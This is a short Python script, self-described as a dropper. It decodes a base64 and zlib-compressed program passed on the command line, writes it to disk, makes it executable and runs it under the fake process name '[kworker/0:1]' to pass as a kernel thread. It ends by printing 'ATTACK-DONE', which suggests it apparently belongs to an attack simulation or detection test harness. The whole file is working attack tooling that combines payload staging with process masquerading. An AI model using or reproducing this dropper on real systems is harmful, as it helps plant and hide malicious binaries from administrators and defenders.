"""The dropper in Python: drop.py TOKEN PROGRAM-AS-TEXT"""
import base64
import os
import subprocess
import sys
import zlib

token, text = sys.argv[1:3]
path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "dropped-" + token)
with open(path, "wb") as file:
    file.write(zlib.decompress(base64.b64decode(text)))
os.chmod(path, 0o700)
try:
    subprocess.run(["[kworker/0:1]", token], executable=path, timeout=20)
except OSError as error:
    print("exec:", error)
print("left behind:", "yes" if os.path.exists(path) else "no")
print("ATTACK-DONE")
